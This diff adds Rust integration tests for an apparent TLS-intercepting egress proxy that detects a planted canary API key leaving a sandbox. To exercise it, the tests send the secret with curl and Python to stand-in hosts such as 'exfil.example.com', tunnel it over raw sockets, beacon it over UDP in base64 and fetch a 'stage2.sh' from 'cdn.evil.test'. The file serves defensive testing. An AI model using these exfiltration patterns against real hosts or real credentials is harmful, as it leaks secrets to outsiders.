@@ -1,0 +1,535 @@
+//! The TLS-intercepting proxy on loopback, driven by real clients (curl, Python, raw sockets).
+//! Without netfilter in these tests, the listener's own address stands in for the original
+//! destination (`OriginalDst::LocalAddrFallback`); clients are pointed at it with
+//! `--connect-to`/`--resolve`, proxy variables, or directly.
+
+use observer::egress::canary::Needle;
+use observer::egress::proxy::{
+    CertAuthority, ForwardRequest, ForwardResponse, ProxyConfig, Upstream,
+};
+use observer::egress::{start, EgressConfig, EgressHandle, EgressSockets, OriginalDst};
+use observer::trace::EventKind;
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::path::PathBuf;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+const SECRET: &str = "sk-ant-api03-Zq8vR2mXkP4wT7nB1cY6hJ9dL3fG5sA0";
+
+type Events = Arc<Mutex<Vec<EventKind>>>;
+
+struct Rig {
+    handle: EgressHandle,
+    events: Events,
+    addr: SocketAddr,
+    udp: SocketAddr,
+    ca_path: PathBuf,
+    _dir: tempfile::TempDir,
+}
+
+fn rig(tune: impl FnOnce(&mut ProxyConfig)) -> Rig {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = Arc::new(CertAuthority::generate(Some(dir.path())).unwrap());
+    let ca_path = ca.pem_path().unwrap().to_path_buf();
+    let mut pc = ProxyConfig::new(ca);
+    pc.first_byte_timeout = Duration::from_millis(500);
+    pc.stream_idle = Duration::from_secs(2);
+    tune(&mut pc);
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let (addr, uaddr) = (tcp.local_addr().unwrap(), udp.local_addr().unwrap());
+    let events: Events = Arc::default();
+    let ev = Arc::clone(&events);
+    let cfg = EgressConfig {
+        needles: vec![Needle {
+            value: SECRET.into(),
+            canary: "anthropic_key".into(),
+            credential: "claude-json".into(),
+            service_hosts: vec!["api.anthropic.com".into()],
+        }],
+        original_dst: OriginalDst::LocalAddrFallback,
+        proxy: Some(pc),
+        shutdown_grace: Duration::from_secs(1),
+        ..EgressConfig::default()
+    };
+    let sockets = EgressSockets {
+        transparent_tcp: vec![tcp],
+        udp_catchall: vec![udp],
+        ..Default::default()
+    };
+    let handle = start(sockets, cfg, move |k| {
+        let mut v = ev.lock().unwrap();
+        v.push(k);
+        v.len() as u64
+    })
+    .unwrap();
+    Rig {
+        handle,
+        events,
+        addr,
+        udp: uaddr,
+        ca_path,
+        _dir: dir,
+    }
+}
+
+impl Rig {
+    async fn finish(self) -> Vec<EventKind> {
+        let status = self.handle.shutdown().await;
+        assert!(status.is_complete(), "{status:?}");
+        let v = self.events.lock().unwrap().clone();
+        v
+    }
+}
+
+async fn run(cmd: &mut Command) -> (bool, String, String) {
+    let out = tokio::task::block_in_place(|| cmd.output()).expect("spawn client");
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stdout).into(),
+        String::from_utf8_lossy(&out.stderr).into(),
+    )
+}
+
+fn requests(ev: &[EventKind]) -> Vec<(String, String, u64)> {
+    ev.iter()
+        .filter_map(|e| match e {
+            EventKind::HttpRequest {
+                method,
+                url,
+                body_size,
+                ..
+            } => Some((method.clone(), url.clone(), *body_size)),
+            _ => None,
+        })
+        .collect()
+}
+
+fn hits(ev: &[EventKind]) -> Vec<(Vec<String>, Option<String>)> {
+    ev.iter()
+        .filter_map(|e| match e {
+            EventKind::CanaryHit { chain, host, .. } => Some((chain.clone(), host.clone())),
+            _ => None,
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_https_h2_and_h1_intercepted_with_canary_in_body() {
+    let r = rig(|_| {});
+    let connect_to = format!("exfil.example.com:443:127.0.0.1:{}", r.addr.port());
+    for ver in ["--http2", "--http1.1"] {
+        let (ok, out, err) = run(Command::new("curl")
+            .args(["-sS", "--max-time", "10", ver, "--cacert"])
+            .arg(&r.ca_path)
+            .args([
+                "--connect-to",
+                &connect_to,
+                "-H",
+                "Content-Type: application/json",
+                "--data",
+                &format!("{{\"key\":\"{SECRET}\"}}"),
+                "https://exfil.example.com/upload?src=ci",
+            ]))
+        .await;
+        assert!(ok, "curl {ver}: {err}");
+        assert!(out.contains("\"status\":\"ok\""), "{out}");
+    }
+    let ev = r.finish().await;
+    let reqs = requests(&ev);
+    assert_eq!(
+        reqs.iter()
+            .filter(|(m, u, n)| m == "POST"
+                && u == "https://exfil.example.com/upload?src=ci"
+                && *n > 0)
+            .count(),
+        2,
+        "{reqs:?}"
+    );
+    let tls: Vec<_> = ev
+        .iter()
+        .filter_map(|e| match e {
+            EventKind::TlsHandshake {
+                sni,
+                alpn,
+                intercepted,
+                ..
+            } => Some((sni.clone(), alpn.clone(), *intercepted)),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        tls.iter()
+            .all(|(s, _, i)| s.as_deref() == Some("exfil.example.com") && *i),
+        "{tls:?}"
+    );
+    assert!(tls.iter().any(|(_, a, _)| a.contains(&"h2".to_string())));
+    let h = hits(&ev);
+    assert!(
+        h.iter()
+            .any(|(c, host)| c == &["body"] && host.as_deref() == Some("exfil.example.com")),
+        "{h:?}"
+    );
+    // Every connection is recorded with the client's source port for the pid join.
+    assert!(ev.iter().any(
+        |e| matches!(e, EventKind::Connection { proto, src_port: Some(_), .. } if proto == "tcp")
+    ));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ip_literal_gets_an_ip_san_and_validates() {
+    let r = rig(|_| {});
+    let url = format!(
+        "https://127.0.0.1:{}/probe?k={}",
+        r.addr.port(),
+        hex::encode(SECRET)
+    );
+    let (ok, _, err) = run(Command::new("curl")
+        .args(["-sS", "--max-time", "10", "--cacert"])
+        .arg(&r.ca_path)
+        .arg(&url))
+    .await;
+    assert!(ok, "IP-literal certificate rejected: {err}");
+    let ev = r.finish().await;
+    assert!(
+        requests(&ev).iter().any(|(_, u, _)| u == &url),
+        "{:?}",
+        requests(&ev)
+    );
+    assert!(
+        hits(&ev).iter().any(|(c, _)| c == &["url", "hex"]),
+        "{:?}",
+        hits(&ev)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pinned_client_aborts_and_the_handshake_is_recorded() {
+    let r = rig(|_| {});
+    // No --cacert: the system store does not trust the run's root, as with a pinned client.
+    let (ok, _, _) = run(Command::new("curl").args([
+        "-sS",
+        "--max-time",
+        "10",
+        "--resolve",
+        &format!("pinned.example:{0}:127.0.0.1", r.addr.port()),
+        &format!("https://pinned.example:{}/", r.addr.port()),
+    ]))
+    .await;
+    assert!(!ok);
+    let ev = r.finish().await;
+    let tls: Vec<_> = ev
+        .iter()
+        .filter_map(|e| match e {
+            EventKind::TlsHandshake {
+                sni,
+                intercepted,
+                bytes_out,
+                bytes_in,
+                ..
+            } => Some((sni.clone(), *intercepted, *bytes_out, *bytes_in)),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(tls.len(), 1, "{tls:?}");
+    let (sni, intercepted, out, inn) = tls[0].clone();
+    assert_eq!(sni.as_deref(), Some("pinned.example"));
+    assert!(!intercepted && out > 100 && inn > 100, "{tls:?}");
+    assert!(requests(&ev).is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn proxy_aware_clients_connect_and_absolute_form() {
+    let r = rig(|_| {});
+    let proxy = format!("http://127.0.0.1:{}", r.addr.port());
+    // Plain HTTP through HTTP_PROXY (absolute-form request line).
+    let (ok, _, err) = run(Command::new("curl").args([
+        "-sS",
+        "--max-time",
+        "10",
+        "-x",
+        &proxy,
+        "http://plain.example.net/a?token=",
+        "--data-urlencode",
+        &format!("v={SECRET}"),
+    ]))
+    .await;
+    assert!(ok, "{err}");
+    // HTTPS through HTTPS_PROXY: CONNECT, then TLS inside the tunnel.
+    let (ok, _, err) = run(Command::new("curl")
+        .args(["-sS", "--max-time", "10", "-x", &proxy, "--cacert"])
+        .arg(&r.ca_path)
+        .arg("https://tunnel.example.org:8443/x"))
+    .await;
+    assert!(ok, "{err}");
+    // Python, if present: urllib with proxy variables, and requests when installed.
+    let script = format!(
+        r#"
+import os, ssl, urllib.request
+ctx = ssl.create_default_context(cafile=os.environ["CA"])
+h = urllib.request.ProxyHandler({{"https": os.environ["P"], "http": os.environ["P"]}})
+o = urllib.request.build_opener(h, urllib.request.HTTPSHandler(context=ctx))
+print(o.open(urllib.request.Request("https://py.example.com/u", data=b"x={SECRET}")).status)
+try:
+    import requests
+except ImportError:
+    raise SystemExit(0)
+print(requests.post("https://rq.example.com/r", json={{"k": "{SECRET}"}}, verify=os.environ["CA"], proxies={{"https": os.environ["P"]}}).status_code)
+"#
+    );
+    let py = run(Command::new("python3")
+        .arg("-c")
+        .arg(&script)
+        .env("CA", &r.ca_path)
+        .env("P", &proxy))
+    .await;
+    let ev = r.finish().await;
+    let urls: Vec<String> = requests(&ev).into_iter().map(|(_, u, _)| u).collect();
+    assert!(
+        urls.contains(&"http://plain.example.net/a?token=".to_string()),
+        "{urls:?}"
+    );
+    assert!(
+        urls.contains(&"tunnel.example.org:8443".to_string()),
+        "CONNECT recorded: {urls:?}"
+    );
+    assert!(
+        urls.contains(&"https://tunnel.example.org:8443/x".to_string()),
+        "{urls:?}"
+    );
+    let h = hits(&ev);
+    assert!(
+        h.iter()
+            .any(|(c, host)| c == &["body"] && host.as_deref() == Some("plain.example.net")),
+        "{h:?}"
+    );
+    if py.0 {
+        assert!(
+            urls.contains(&"https://py.example.com/u".to_string()),
+            "{urls:?}"
+        );
+        assert!(
+            h.iter()
+                .any(|(_, host)| host.as_deref() == Some("py.example.com")),
+            "{h:?}"
+        );
+        if py.1.lines().count() == 2 {
+            assert!(
+                urls.contains(&"https://rq.example.com/r".to_string()),
+                "{urls:?}"
+            );
+        }
+    } else {
+        eprintln!("python client not run: {}", py.2);
+    }
+}
+
+/// Connects a raw socket to the proxy as a CONNECT client and sends `payload` inside the tunnel.
+fn connect_tunnel(proxy: SocketAddr, target: SocketAddr, payload: &[u8]) {
+    let mut s = TcpStream::connect(proxy).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    write!(s, "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").unwrap();
+    let mut resp = [0u8; 256];
+    let n = s.read(&mut resp).unwrap();
+    assert!(
+        resp[..n].starts_with(b"HTTP/1.1 200"),
+        "{:?}",
+        String::from_utf8_lossy(&resp[..n])
+    );
+    s.write_all(payload).unwrap();
+    s.shutdown(std::net::Shutdown::Write).unwrap();
+    let mut rest = Vec::new();
+    let _ = s.read_to_end(&mut rest);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_reaches_a_real_listener_whatever_goes_through_the_tunnel() {
+    let r = rig(|_| {});
+    // A real upstream on another loopback port: it must never see a connection.
+    let sentinel = TcpListener::bind("127.0.0.1:0").unwrap();
+    sentinel.set_nonblocking(true).unwrap();
+    let target = sentinel.local_addr().unwrap();
+    let proxy = r.addr;
+    let mut ssh = b"SSH-2.0-OpenSSH_9.6\r\n\x00\x00\x01\x0c\x0a\x14".to_vec();
+    ssh.extend_from_slice(SECRET.as_bytes());
+    tokio::task::spawn_blocking(move || {
+        connect_tunnel(proxy, target, &ssh);
+        connect_tunnel(
+            proxy,
+            target,
+            b"\x00\xffgarbage\x01\x02 not a protocol at all",
+        );
+        connect_tunnel(
+            proxy,
+            target,
+            format!("GET /x HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes(),
+        );
+        // Raw bytes straight to the transparent listener (a client ignoring proxies).
+        let mut s = TcpStream::connect(proxy).unwrap();
+        s.write_all(format!("\x01raw:{SECRET}").as_bytes()).unwrap();
+    })
+    .await
+    .unwrap();
+    let ev = r.finish().await;
+    match sentinel.accept() {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+        other => panic!("the sentinel was reached: {other:?}"),
+    }
+    let streams: Vec<_> = ev
+        .iter()
+        .filter_map(|e| match e {
+            EventKind::Stream {
+                dst_addr,
+                dst_port,
+                preview,
+                bytes_out,
+                ..
+            } => Some((
+                dst_addr.clone(),
+                *dst_port,
+                preview.clone().unwrap_or_default(),
+                *bytes_out,
+            )),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        streams.iter().any(|(a, p, pre, _)| a == "127.0.0.1"
+            && *p == target.port()
+            && pre.starts_with("SSH-2.0-")),
+        "{streams:?}"
+    );
+    assert!(
+        streams
+            .iter()
+            .any(|(_, p, pre, _)| *p == target.port() && pre.starts_with("\\x00\\xffgarbage")),
+        "{streams:?}"
+    );
+    assert!(
+        requests(&ev)
+            .iter()
+            .any(|(m, u, _)| m == "GET" && u == &format!("http://{target}/x")),
+        "{:?}",
+        requests(&ev)
+    );
+    let h = hits(&ev);
+    assert!(
+        h.iter().filter(|(c, _)| c == &["stream"]).count() >= 2,
+        "{h:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn udp_datagrams_are_recorded_and_searched() {
+    let r = rig(|_| {});
+    let to = r.udp;
+    tokio::task::spawn_blocking(move || {
+        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
+        s.send_to(format!("beacon {}", base64_std(SECRET)).as_bytes(), to)
+            .unwrap();
+        s.send_to(b"second", to).unwrap();
+    })
+    .await
+    .unwrap();
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let ev = r.finish().await;
+    let udp: Vec<_> = ev
+        .iter()
+        .filter(|e| matches!(e, EventKind::Stream { proto, .. } if proto == "udp"))
+        .collect();
+    assert_eq!(udp.len(), 2, "{ev:?}");
+    assert_eq!(
+        ev.iter()
+            .filter(|e| matches!(e, EventKind::Connection { proto, .. } if proto == "udp"))
+            .count(),
+        1,
+        "one flow"
+    );
+    assert!(
+        hits(&ev).iter().any(|(c, _)| c == &["datagram", "base64"]),
+        "{:?}",
+        hits(&ev)
+    );
+}
+
+fn base64_std(s: &str) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(s)
+}
+
+struct Recorded(Mutex<Vec<String>>);
+
+#[async_trait::async_trait]
+impl Upstream for Recorded {
+    async fn forward(&self, req: ForwardRequest) -> Result<ForwardResponse, String> {
+        self.0.lock().unwrap().push(req.url.clone());
+        Ok(ForwardResponse {
+            status: 201,
+            headers: vec![("content-type".into(), "application/json".into())],
+            body: br#"{"model":"real"}"#.to_vec(),
+        })
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn responses_dir_and_passthrough_only_for_listed_hosts() {
+    let stage = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(stage.path().join("cdn.evil.test/s")).unwrap();
+    std::fs::write(
+        stage.path().join("cdn.evil.test/s/stage2.sh"),
+        "echo second-stage\n",
+    )
+    .unwrap();
+    let up = Arc::new(Recorded(Mutex::default()));
+    let up2 = Arc::clone(&up);
+    let dir = stage.path().to_path_buf();
+    let r = rig(move |c| {
+        c.responses_dir = Some(dir);
+        c.passthrough = vec!["api.anthropic.com".into()];
+        c.upstream = Some(up2);
+    });
+    let port = r.addr.port();
+    let get = |host: &str, path: &str| {
+        let mut c = Command::new("curl");
+        c.args(["-sS", "--max-time", "10", "--cacert"])
+            .arg(&r.ca_path)
+            .args([
+                "--connect-to",
+                &format!("{host}:443:127.0.0.1:{port}"),
+                "-w",
+                "\n%{http_code}",
+                &format!("https://{host}{path}"),
+            ]);
+        c
+    };
+    let (_, stage2, _) = run(&mut get("cdn.evil.test", "/s/stage2.sh?x=1")).await;
+    let (_, model, _) = run(&mut get("api.anthropic.com", "/v1/messages")).await;
+    let (_, other, _) = run(&mut get("api.anthropic.com.evil.test", "/v1/messages")).await;
+    let ev = r.finish().await;
+    assert_eq!(stage2, "echo second-stage\n\n200");
+    assert_eq!(model, "{\"model\":\"real\"}\n201");
+    assert!(other.ends_with("200") && !other.contains("real"), "{other}");
+    assert_eq!(
+        *up.0.lock().unwrap(),
+        vec!["https://api.anthropic.com/v1/messages".to_string()]
+    );
+    assert_eq!(requests(&ev).len(), 3);
+}
+
+#[test]
+fn tcp_sockets_without_a_proxy_config_are_refused() {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let _g = rt.enter();
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    let r = start(
+        EgressSockets {
+            transparent_tcp: vec![tcp],
+            ..Default::default()
+        },
+        EgressConfig::default(),
+        |_| 0,
+    );
+    assert!(r.is_err());
+}
